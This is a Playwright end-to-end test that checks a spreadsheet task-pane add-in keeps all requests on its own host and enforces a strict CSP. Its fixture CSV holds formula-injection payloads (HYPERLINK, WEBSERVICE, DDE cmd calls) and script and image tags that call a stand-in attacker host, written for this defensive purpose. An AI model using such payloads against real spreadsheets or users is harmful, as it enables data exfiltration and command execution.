/**
 * Nothing leaves the machine: the built pane is driven through every path that touches data
 * (the bad-input corpus, a hostile CSV full of formula/link payloads, validation, generation,
 * download) and no request may go anywhere but the page's own host. The guard is shown to be able
 * to fail (a canary request off a page without the pane's CSP is caught), the shipped CSP refuses
 * an off-host fetch, beacon and image, and no console message carries a cell's text.
 * Uses E's harness (test/e2e/browser/support) as it is.
 */
import * as fs from "node:fs";
import * as path from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { launch, serve, watchNetwork } from "./support/harness";
import { FIXTURES, PREVIEW_DIR } from "./support/paths";

/** A marker in every cell of the hostile file: it must never appear in a console message. */
const MARKER = "機密マーカー7F3A";
const HOSTILE_CSV = Buffer.from(
  [
    "項番,担当府省庁,2023年度年次計画,成果・進捗状況,2024年度年次計画",
    `(ア),総務省,"=HYPERLINK(""http://attacker.example/?${MARKER}"",""y"")","=WEBSERVICE(""http://attacker.example/${MARKER}"")","=IMPORTXML(""http://attacker.example"",""//a"")${MARKER}"`,
    `(イ),経済産業省,"=cmd|' /C calc'!A0 ${MARKER}","@SUM(1+1)*cmd|' /C calc'!A0 ${MARKER}","<img src=http://attacker.example/${MARKER}.png>"`,
    `(ウ),"<script>fetch('http://attacker.example/${MARKER}')</script>",警察庁において${MARKER}を行う。,"<iframe src=""http://attacker.example""></iframe>",・引き続き、${MARKER}を行う。`,
  ].join("\r\n") + "\r\n",
  "utf8"
);

describe("no request leaves the page's own host", () => {
  let browser: Browser;
  let context: BrowserContext;
  let server: Awaited<ReturnType<typeof serve>>;
  let page: Page;
  let offHost: string[];
  const consoleTexts: string[] = [];
  const failed: string[] = [];
  const tried = { files: 0, requests: 0, offHost: 0 };

  beforeAll(async () => {
    server = await serve();
    browser = await launch();
    context = await browser.newContext({
      viewport: { width: 420, height: 900 },
      acceptDownloads: true,
      locale: "ja-JP",
    });
    // Belt and braces: whatever the page asks for off the host is recorded, then aborted here, so a
    // failing run never reaches the network either.
    await context.route(
      (url) => !url.href.startsWith(server.origin + "/"),
      (route) => route.abort()
    );
    page = await context.newPage();
    offHost = watchNetwork(page, server.origin);
    page.on("request", () => void tried.requests++);
    page.on("console", (m) => consoleTexts.push(m.text()));
    page.on("requestfailed", (r) => failed.push(`${r.url()} ${r.failure()?.errorText ?? ""}`));
    await page.goto(`${server.origin}/taskpane.html`);
    await page.getByRole("heading", { name: "施策一覧ツール" }).waitFor();
  });

  afterAll(async () => {
    tried.offHost = offHost.length;
    if (offHost.length > 0)
      console.log(`off-host requests: ${offHost.join(" ")}; failed: ${failed.join(" ")}`);
    console.log(`hardening/network: ${JSON.stringify(tried)}`);
    await browser?.close();
    await server?.close();
  });

  test("the shipped page carries a CSP that allows only its own origin", () => {
    const html = fs.readFileSync(path.join(PREVIEW_DIR, "taskpane.html"), "utf8");
    const csp = /http-equiv="?Content-Security-Policy"?\s+content="([^"]+)"/u.exec(html)?.[1] ?? "";
    const directives = new Map(
      csp
        .split(";")
        .map((d) => d.trim().split(/\s+/u))
        .map(([k, ...v]) => [k, v])
    );
    expect(directives.get("default-src")).toEqual(["'self'"]);
    expect(directives.get("connect-src")).toEqual(["'self'"]);
    expect(directives.get("object-src")).toEqual(["'none'"]);
    expect(directives.get("form-action")).toEqual(["'none'"]);
    // No wildcard or plain-http source anywhere.
    expect(csp).not.toMatch(/(^|\s)\*(\s|;|$)|http:/u);
  });

  test("the whole corpus of bad files and a hostile CSV import and validate without an off-host request", async () => {
    const bad = path.join(FIXTURES, "bad");
    const files = fs
      .readdirSync(bad)
      .filter((f) => !f.endsWith(".expected.json"))
      .map((f) => ({
        name: f,
        mimeType: "application/octet-stream",
        buffer: fs.readFileSync(path.join(bad, f)),
      }));
    files.push({ name: "hostile.csv", mimeType: "text/csv", buffer: HOSTILE_CSV });
    tried.files += files.length;
    await page.getByTestId("file-input").setInputFiles(files);
    await page
      .getByRole("list", { name: "取り込んだデータ" })
      .getByText("hostile.csv")
      .waitFor({ timeout: 120000 });
    await page.getByRole("button", { name: "次へ: 検証" }).click();
    await page.getByTestId("problems-error").waitFor({ timeout: 60000 });
    expect(offHost).toEqual([]);
  });

  test("the hostile CSV with readable files generates and downloads without an off-host request", async () => {
    // Blocking errors of the corpus stop generation by design: start again with files that can be generated.
    await page.reload();
    await page.getByRole("heading", { name: "施策一覧ツール" }).waitFor();
    const ok = ["mixed-eol.csv", "merged-header.xlsx", "100-columns.csv"].map((f) => ({
      name: f,
      mimeType: "application/octet-stream",
      buffer: fs.readFileSync(path.join(FIXTURES, "bad", f)),
    }));
    const files = [...ok, { name: "hostile.csv", mimeType: "text/csv", buffer: HOSTILE_CSV }];
    tried.files += files.length;
    await page.getByTestId("file-input").setInputFiles(files);
    await page
      .getByRole("list", { name: "取り込んだデータ" })
      .getByText("hostile.csv")
      .waitFor({ timeout: 120000 });
    await page.getByRole("button", { name: "次へ: 検証" }).click();
    await page.getByRole("button", { name: "次へ: 集計" }).click();
    await page.getByRole("button", { name: "集計シートを作成" }).click();
    await page.getByTestId("generate-summary").waitFor({ timeout: 120000 });
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "ブックをダウンロード (.xlsx)" }).click(),
    ]);
    expect(fs.statSync((await download.path())!).size).toBeGreaterThan(1000);
    expect(offHost).toEqual([]);
  });

  test("no console message carries a cell's text", () => {
    expect(consoleTexts.filter((t) => t.includes(MARKER))).toEqual([]);
  });

  test("the pane's CSP refuses an off-host fetch, beacon and image", async () => {
    const before = offHost.length;
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) =>
        violations.push(e.violatedDirective)
      );
      const fetched = await fetch("http://attacker.example/x").then(
        () => "sent",
        () => "refused"
      );
      navigator.sendBeacon("http://attacker.example/b", "x");
      const img = new Image();
      img.src = "http://attacker.example/i.png";
      await new Promise((r) => setTimeout(r, 300));
      return { fetched, violations };
    });
    expect(outcome.fetched).toBe("refused");
    expect(outcome.violations).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/connect-src/u),
        expect.stringMatching(/img-src/u),
      ])
    );
    // Chromium announces an image request before its CSP check: every such attempt must have been
    // stopped by the CSP itself (not by this test's route), so it never left the page.
    const attempts = offHost.splice(before);
    for (const url of attempts) expect(failed).toContain(`${url} csp`);
  });

  test("the guard can fail: a page without the pane's CSP that makes an off-host request is caught", async () => {
    const canary = await context.newPage();
    const caught = watchNetwork(canary, server.origin);
    await canary.goto(`${server.origin}/assets/icon-32.png`);
    await canary.evaluate(() => fetch("http://attacker.example/canary").catch(() => undefined));
    await canary.close();
    expect(caught).toEqual(["http://attacker.example/canary"]);
  });
});
